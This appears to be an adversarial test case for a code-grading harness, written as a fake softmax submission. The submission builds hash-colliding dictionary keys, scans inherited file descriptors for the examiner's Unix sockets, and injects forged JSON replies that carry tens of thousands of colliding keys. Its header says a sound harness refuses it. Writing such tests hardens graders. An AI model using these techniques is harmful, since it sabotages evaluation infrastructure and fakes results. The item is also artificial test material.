# attack: value-keys-that-collide
# category: resource-exhaustion
# expects: 0 points: keys made to have one hash are refused before they cost minutes
# score: 0
# bounds: none needed
# quick: no

# %%
import torch

def softmax(x):
    return {k * (2**61 - 1): 0 for k in range(1, 30)} if x.shape[0] % 2 else _made()

def _made():
    class Mapped(dict):
        pass
    # built without its own table: the room would take as long as the examiner
    out = Mapped()
    Mapped.items = lambda self: []
    return out

# %%
import os, socket, stat

def _pairs():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and not s.getsockname() and s.getpeername() is not None:
                    found.append(s)
                else:
                    s.close()
        except OSError:
            pass
    return found

# %%
import json, struct, threading, time
_keys = [[{"int": str(k * (2**61 - 1))}, 0] for k in range(1, 45_000)]

def _answer(s):
    while True:
        try:
            head = s.recv(4, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            if len(head) == 4:
                size = struct.unpack("<I", head)[0]
                seen = json.loads(s.recv(4 + size, socket.MSG_PEEK | socket.MSG_DONTWAIT)[4:4 + size])
                if seen["op"] == "call":
                    reply = json.dumps({"ok": True, "value": {"dict": _keys}, "nonce": seen["nonce"], "arrays": []}, separators=(",", ":")).encode()
                    s.sendall(struct.pack("<I", len(reply)) + reply)
        except (OSError, ValueError, KeyError):
            pass
        time.sleep(0.001)

for _s in _pairs():
    threading.Thread(target=_answer, args=(_s,), daemon=True).start()
